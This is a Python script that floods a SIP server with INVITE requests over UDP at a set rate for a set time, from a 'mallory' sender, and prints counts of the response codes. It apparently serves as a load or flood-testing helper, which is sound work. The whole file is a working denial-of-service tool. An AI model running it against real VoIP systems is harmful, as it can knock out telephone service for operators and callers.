"""A flood of INVITEs as a process: ``python flooder.py SOURCE HOST PORT RATE SECONDS``.

Each is a call of its own. Prints what came back, as JSON: status to count.
"""

from __future__ import annotations

import json
import socket
import sys
import time
from collections import Counter

STEP = 0.002

INVITE = (
    "INVITE sip:9{number}@{host}:{port} SIP/2.0\r\n"
    "Via: SIP/2.0/UDP {source}:{mine};branch=z9hG4bKflood{number}\r\n"
    "Max-Forwards: 70\r\n"
    "From: <sip:mallory@{source}>;tag=f{number}\r\n"
    "To: <sip:9{number}@{host}>\r\n"
    "Call-ID: flood-{number}@{source}\r\n"
    "CSeq: 1 INVITE\r\n"
    "Contact: <sip:mallory@{source}:{mine}>\r\n"
    "Content-Length: 0\r\n\r\n"
)


def main(source: str, host: str, port: int, rate: float, seconds: float) -> None:
    """Send at ``rate`` messages a second, and count the answers."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((source, 0))
    sock.setblocking(False)
    mine = sock.getsockname()[1]
    seen: Counter[str] = Counter()
    number, start = 0, time.monotonic()
    while (now := time.monotonic() - start) < seconds:
        while number < now * rate:
            number += 1
            text = INVITE.format(number=number, source=source, mine=mine, host=host, port=port)
            try:
                sock.sendto(text.encode(), (host, port))
                seen["sent"] += 1
            except BlockingIOError:
                seen["unsent"] += 1
        listen(sock, seen)
        time.sleep(STEP)
    end = time.monotonic() + 0.5
    while time.monotonic() < end:
        listen(sock, seen)
        time.sleep(STEP)
    print(json.dumps(seen))


def listen(sock: socket.socket, seen: Counter[str]) -> None:
    """Count what has come."""
    while True:
        try:
            seen[sock.recv(65_535)[8:11].decode("latin-1")] += 1
        except BlockingIOError:
            return


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]))
